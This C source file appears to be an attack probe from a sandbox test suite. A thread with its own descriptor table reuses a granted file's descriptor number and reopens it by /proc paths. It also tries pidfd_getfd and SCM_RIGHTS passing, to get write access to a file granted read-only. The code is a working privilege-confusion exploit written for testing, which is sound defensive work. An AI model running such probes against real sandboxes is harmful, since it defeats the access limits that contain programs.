// A thread with a descriptor table of its own opens one of its numbers anew by /proc. Whoever fetches the number from the
// leader's table gets the leader's file: one granted read-only, opened for writing by the sentry's right.
#include "hostile.h"

static int granted = -1;
static atomic_int stage;

static void *other(void *unused) {
    if (unshare(CLONE_FILES) != 0) { stage = 3; return NULL; }
    // The number is the granted file's in the leader's table, and a memory file's in this one.
    int memory = memfd_create("own", 0);
    dup2(memory, granted);
    close(memory);
    char path[64];
    for (int mode = 0; mode < 3; mode++) {
        const char *forms[] = {"/proc/thread-self/fd/%d", "/dev/fd/%d", "/proc/self/fd/%d"};
        snprintf(path, sizeof path, forms[mode], granted);
        int writable = open(path, O_RDWR);
        if (writable < 0) continue;
        if (descriptor_tells(writable, "granted")) succeeded("holds a writable descriptor of the granted file");
        pwrite(writable, "written\n", 8, 0);
        close(writable);
        round_done();
    }
    // By pidfds of the thread and of its leader.
    for (int flags = 0; flags < 2; flags++) {
        int pidfd = syscall(SYS_pidfd_open, flags ? (pid_t)RAW(SYS_gettid) : getpid(), flags ? O_EXCL /* PIDFD_THREAD */ : 0);
        int copy = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, granted, 0);
        if (copy >= 0) {
            snprintf(path, sizeof path, "/proc/thread-self/fd/%d", copy);
            int writable = open(path, O_RDWR);
            if (writable >= 0 && descriptor_tells(writable, "granted")) succeeded("was given the leader's file by pidfd_getfd");
            pwrite(writable, "written\n", 8, 0);
            close(writable), close(copy);
        }
        close(pidfd);
    }
    // The sentry's other uses of a number: truncation, locks, size, transfer, a message's cargo.
    ftruncate(granted, 1);
    fallocate(granted, 0, 0, 10000);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
        char control[CMSG_SPACE(sizeof(int))] = {0};
        struct iovec data = {"x", 1};
        struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(head), &granted, sizeof granted);
        char byte;
        struct iovec into = {&byte, 1};
        if (sendmsg(pair[0], &message, 0) == 1) {
            message.msg_iov = &into, message.msg_controllen = sizeof control;
            if (recvmsg(pair[1], &message, MSG_DONTWAIT) == 1 && CMSG_FIRSTHDR(&message)) {
                int passed;
                memcpy(&passed, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof passed);
                if (descriptor_tells(passed, "granted")) succeeded("was sent the leader's file");
                pwrite(passed, "written\n", 8, 0);
            }
        }
    }
    stage = 2;
    return NULL;
}

static void attack(void) {
    granted = open("/granted/file", O_RDONLY);
    if (granted < 0) { say("note: no grant"); return; }
    thread_start(other, NULL);
    for (int i = 0; i < 2000 && stage < 2; i++) pause_us(200);
}
